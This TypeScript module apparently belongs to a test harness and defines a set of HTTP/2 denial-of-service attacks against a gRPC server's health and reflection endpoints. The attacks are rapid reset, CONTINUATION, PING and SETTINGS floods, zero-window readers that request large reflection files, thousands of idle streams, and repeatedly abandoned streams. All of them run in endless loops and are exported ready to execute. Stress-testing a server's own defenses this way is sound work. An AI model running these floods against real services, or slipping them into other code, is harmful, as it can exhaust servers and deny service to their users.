import { once } from "node:events";
import type { Socket } from "node:net";
import { setTimeout } from "node:timers/promises";
import { RawHttp2Connection } from "../../transport/raw-http2.ts";
import { type Attack, attack, forEver, source, toll } from "./attack.ts";

const check = "/grpc.health.v1.Health/Check";
const watch = "/grpc.health.v1.Health/Watch";
const reflect = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/** Asks for the file that holds a type, which is large: field 4 of the request. */
const largeFile = framed(Buffer.concat([Buffer.from([0x22, 23]), Buffer.from("buf.validate.FieldRules")]));

function framed(message: Buffer): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

/** Not from where the victim calls: what is held against this address must not hit it. */
async function open(port: number, windowBytes = 1_000_000): Promise<RawHttp2Connection> {
  const connection = await RawHttp2Connection.open(port, windowBytes, source);
  toll.open();
  connection.socket.once("close", () => {
    toll.closed += 1;
  });
  return connection;
}

async function settled(socket: Socket): Promise<void> {
  if (socket.writableNeedDrain && !socket.destroyed) {
    await Promise.race([once(socket, "drain"), once(socket, "close")]);
  }
  await setTimeout(1);
}

/** Does something on connection after connection, each until the server closes it. */
function onEach(connections: number, step: (connection: RawHttp2Connection) => void): Attack {
  return async (port) => {
    const one = async (): Promise<never> => {
      for (;;) {
        const connection = await open(port).catch(() => undefined);
        connection?.socket.resume();
        while (connection !== undefined && !connection.socket.destroyed) {
          step(connection);
          await settled(connection.socket);
        }
        await setTimeout(5);
      }
    };
    await Promise.all(Array.from({ length: connections }, one));
  };
}

export const attacks = {
  "rapid reset": onEach(20, (connection) => connection.reset(check, 200)),
  "continuation flood": onEach(10, (connection) => connection.continuations(check, 500)),
  "ping flood": onEach(10, (connection) => connection.ping(1000)),
  "settings flood": onEach(10, (connection) => connection.settings(1000)),

  "zero-window readers": async (port) => {
    for (let connection = 0; connection < 50; connection++) {
      const reader = await open(port, 0);
      reader.socket.resume();
      for (let call = 0; call < 100; call++) reader.call(reflect, {}, largeFile);
    }
    await forEver();
  },

  "10,000 idle streams": async (port) => {
    for (let connection = 0; connection < 20; connection++) {
      const idle = await open(port);
      idle.socket.resume();
      for (let call = 0; call < 500; call++) {
        idle.socket.write(idle.callFrames(check, {}, { body: undefined, ends: false }).bytes);
      }
    }
    await forEver();
  },

  "abandoned streams": async (port) => {
    for (;;) {
      const readers = await Promise.all(Array.from({ length: 50 }, () => open(port, 10).catch(() => undefined)));
      for (const reader of readers) {
        reader?.socket.pause();
        for (let call = 0; call < 20; call++) reader?.call(call % 2 === 0 ? watch : reflect, {}, largeFile);
      }
      await setTimeout(200);
      for (const reader of readers) reader?.socket.destroy();
    }
  },
} satisfies Record<string, Attack>;

if (import.meta.main) await attack(attacks);
